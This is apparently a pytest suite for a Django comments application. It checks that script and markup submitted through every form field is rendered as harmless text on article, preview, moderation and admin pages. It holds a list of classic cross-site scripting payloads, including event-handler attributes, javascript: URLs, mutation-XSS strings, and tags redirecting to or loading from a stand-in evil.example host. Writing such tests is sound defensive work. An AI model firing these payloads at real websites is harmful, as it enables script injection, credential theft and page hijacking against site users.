"""Markup and scripts in every field of the form: on no page do they become more than text."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import User
from django.core import signing
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from comments import moderation
from comments.models import Comment, StatusChange, Submission
from comments.spam.rules import Draft
from comments.text import clean_name, clean_text
from comments.tokens import PREVIEW

pytestmark = pytest.mark.one_database

#: What a comment's text may be made of; everywhere else a payload stays text.
TEXT_TAGS = {"a", "b", "strong", "i", "em", "code", "pre", "blockquote", "p", "br"}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<form action=//evil.example/><input name=email></form>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    '"autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://e.example/" onclick="alert(1)">x</a>',
    '<a href="https://e.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
    '<a href="https://e.example/" style="position:fixed;inset:0">x</a>',
    "<b onmouseover=alert(1)>x</b>",
    '<b class="notice">x</b>',
    '<code id="commentform">x</code>',
    'https://e.example/"onmouseover=alert(1)',
    "https://e.example/'><script>alert(1)</script>",
    "https://e.example/<script>alert(1)</script>",
    "</div></section></main><h1>Ours</h1>",
    "</li></ol></li></ol>",
    "<!-- ",
    "<![CDATA[",
    "<plaintext>",
    "<template>",
    "{{ 7|add:7 }}{% debug %}{% csrf_token %}",
    "%(name)s %s {0} {name}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
]


class Skeleton(HTMLParser):
    """A page without its words: elements with their attributes' names, in order.

    What lies inside of a comment's text (`class="comment-text"`) is kept apart in `inside`.
    """

    def __init__(self, page):
        super().__init__()
        self.outside, self.inside, self.depth = [], [], 0
        self.links = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.links += [
            attributes[name] or "" for name in ("href", "src", "action") if name in attributes
        ]
        if tag == "br":
            return  # a new line does no harm; the admin shows them so
        if self.depth:
            self.inside.append((tag, tuple(name for name, _value in attrs)))
            self.depth += tag == "div"
        else:
            self.outside.append((tag, tuple(name for name, _value in attrs)))
            self.depth = int(attributes.get("class") == "comment-text")

    def handle_endtag(self, tag):
        if self.depth:
            self.depth -= tag == "div"
        else:
            self.outside.append((f"/{tag}", ()))

    def handle_comment(self, data):
        self.outside.append(("comment", ()))

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(page, harmless, name):
    """`page` is built as `harmless` is, but for the words and the markup of comments' texts."""
    if name.startswith("desk"):  # which also says how many links there are, and where to
        assert_tags_are_ours(page, harmless, name)
        return
    found = Skeleton(page)
    assert found.outside == Skeleton(harmless).outside, f"{name}: another page came out"
    for tag, attributes in found.inside:
        assert tag in TEXT_TAGS, f"{name}: <{tag}>"
        assert set(attributes) <= ({"href", "rel"} if tag == "a" else set()), (
            f"{name}: {attributes}"
        )
    for link in found.links:
        assert urlsplit(link.strip()).scheme.lower() in ("", "http", "https"), f"{name}: {link}"


def pages_of(comment, staff):
    """Every page on which `comment` is shown, as it is now: (name, HTML)."""
    token = signing.dumps(comment.pk, salt=PREVIEW.salt)
    reader, article = Client(), comment.article.get_absolute_url()
    tab = {"submitted": "awaiting", "pending": "queue"}.get(comment.status, comment.status)
    yield "desk", staff.get(f"/moderation/{tab}/")
    yield "admin list", staff.get("/admin/comments/comment/")
    yield "admin page", staff.get(f"/admin/comments/comment/{comment.pk}/change/")
    if comment.status == "approved":
        yield "article", reader.get(article)
        yield "reply", reader.get(f"{article}?replytocom={comment.pk}")
    else:
        yield "preview", reader.get(f"/comments/preview/{token}/")


def walk(comment, moderator, staff):
    """Show it before the check, to moderators, to all readers, and as spam; yield each page."""
    for verb in (None, "approve", "spam"):
        if verb:
            getattr(moderation, verb)(comment, by=moderator, seen=comment.status)
        comment.refresh_from_db()
        for name, response in pages_of(comment, staff):
            assert response.status_code == 200, f"{name}: {response.status_code}"
            yield f"{name} ({comment.status})", response.content.decode()


@pytest.fixture
def root(db):
    """Somebody who sees everything, in a browser of their own."""
    client = Client()
    client.force_login(User.objects.create_superuser("root"))
    return client


def clear():
    StatusChange.objects.all().delete()
    Submission.objects.all().delete()
    Comment.objects.all().delete()


#: The same pages with a harmless comment on them, rendered once for all payloads.
HARMLESS: dict[str, str] = {}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_classic_payloads_through_the_form(
    post_comment, article, moderator, root, no_flood, payload
):
    agent = payload.encode("ascii", "replace").decode()
    headers = {"Sec-Fetch-Site": "same-origin", "User-Agent": agent}
    fields = {"url": "https://e.example/", "headers": headers}
    if not HARMLESS:
        assert post_comment(text="Words.", name="Rosa", **fields).status_code == 302
        HARMLESS.update(walk(Comment.objects.get(), moderator, root))
        clear()
        article.refresh_from_db()

    fields |= {"text": payload, "name": payload, "second_thoughts": payload[:100]}
    response = post_comment(**fields)
    if response.status_code == 422:  # a control character in the name
        page = response.content.decode()
        harmless = post_comment(**fields | {"name": "two\nlines", "text": "x"})
        assert_harmless(page, harmless.content.decode(), "refused")
        response = post_comment(**fields | {"name": "Rosa"})
    assert response.status_code == 302
    for name, page in walk(Comment.objects.get(), moderator, root):
        assert_harmless(page, HARMLESS[name], name)


def assert_tags_are_ours(page, harmless, name):
    """No element and no attribute stands on `page` that does not also stand on the other.

    But for what tells a reason to wait, or a link's target, that a harmless comment does not have.
    """
    found = Skeleton(page)
    ours = set(Skeleton(harmless).outside) | {("q", ()), ("/q", ()), ("div", ()), ("dd", ())}
    assert set(found.outside) <= ours, name
    for tag, attributes in found.inside:
        assert tag in TEXT_TAGS | {"span"}, f"{name}: <{tag}>"
        allowed = {"a": {"href", "rel"}, "span": {"class"}}.get(tag, set())
        assert set(attributes) <= allowed, f"{name}: {attributes}"
    for link in found.links:
        assert urlsplit(link.strip()).scheme.lower() in ("", "http", "https"), f"{name}: {link}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_classic_payloads_in_fields_that_are_refused(post_comment, payload):
    wrong = {"text": "x", "name": "Rosa", "email": "nonsense", "url": "nonsense"}
    harmless = post_comment(**wrong)
    assert harmless.status_code == 422
    hostile = dict.fromkeys(wrong, payload) | {"key": payload, "name": payload}
    response = post_comment(**hostile)
    assert response.status_code == 422
    page = response.content.decode()
    found, expected = Skeleton(page), Skeleton(harmless.content.decode())
    assert [tag for tag, _names in found.outside if tag == "script"] == [
        tag for tag, _names in expected.outside if tag == "script"
    ]
    names = {name for _tag, attributes in found.outside for name in attributes}
    assert not [name for name in names if name.startswith("on") or name in ("srcdoc", "style")]
    assert {tag for tag, _names in found.outside} <= {tag for tag, _names in expected.outside}
    assert all(not link.lower().startswith(("javascript", "data:text")) for link in found.links)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//.example.com",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "//evil.example/",
        'https://e.example/"onmouseover="alert(1)',
        "https://e.example/' onclick='alert(1)",
        "https://e.example/<script>",
        "https://e.example/\u202egpj",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "https://javascript:alert(1)@e.example/",
    ],
)
def test_a_website_is_a_web_address_or_nothing(
    post_comment, article, client, moderator, root, no_flood, url
):
    response = post_comment(url=url)
    if response.status_code == 422:
        assert not Comment.objects.exists()
        return
    comment = Comment.objects.get()
    moderation.approve(comment, by=moderator, seen="submitted")
    page = client.get(article.get_absolute_url()).content.decode()
    assert comment.url.startswith(("http://", "https://"))
    names = {name for _tag, attributes in Skeleton(page).outside for name in attributes}
    assert not [name for name in names if name.startswith("on")]
    for link in Skeleton(page).links:
        assert urlsplit(link).scheme in ("", "http", "https")


FRAGMENTS = st.sampled_from(
    [*PAYLOADS, "<", ">", '"', "'", "&", "=", "/", " ", "\n", "`", "script"]
)
TEXTS = st.text(min_size=1, max_size=30) | st.lists(FRAGMENTS, min_size=1, max_size=4).map("".join)


def test_any_text_in_any_field(article, moderator, root):
    """Names and texts as the form cleans them, stored and shown on every page."""

    def store(name, text, url):
        draft = Draft(name=name, text=text, url=url, email="r@example.com", user_agent=name)
        return moderation.submit(article, draft, ancestors=[])

    with transaction.atomic():
        expected = dict(walk(store("Rosa", "Words.", "https://e.example/"), moderator, root))
        transaction.set_rollback(True)

    @settings(
        max_examples=25,
        deadline=None,
        suppress_health_check=list(HealthCheck),
        phases=set(Phase) - {Phase.shrink},  # each example renders a dozen pages
    )
    @given(name=TEXTS, text=TEXTS)
    def check(name, text):
        name, text = clean_name(name)[:245] or "Rosa", clean_text(text)[:5000] or "Words."
        name, text = name.replace("\x00", ""), text.replace("\x00", "")
        with transaction.atomic():
            comment = store(name or "Rosa", text, "https://e.example/")
            for where, page in walk(comment, moderator, root):
                assert_harmless(page, expected[where], where)
            transaction.set_rollback(True)

    check()


def test_the_search_for_injected_markup_finds_it():
    harmless = '<p>x</p><div class="comment-text"><p>y</p></div><p>z</p>'
    assert_harmless(harmless.replace("y", "<b>other</b>"), harmless, "fine")
    for page in (
        harmless.replace("x", "<b>x</b>"),
        harmless.replace("y", "<img>"),
        harmless.replace("<p>y", "<p class=y>y"),
        harmless.replace("y", '<a href="javascript:x">y</a>'),
        harmless.replace("y", "</p></div><p>y"),
        harmless.replace("z", "<!-- z -->"),
        harmless.replace("<p>z", "<p onclick=x>z"),
    ):
        with pytest.raises(AssertionError):
            assert_harmless(page, harmless, "harmful")
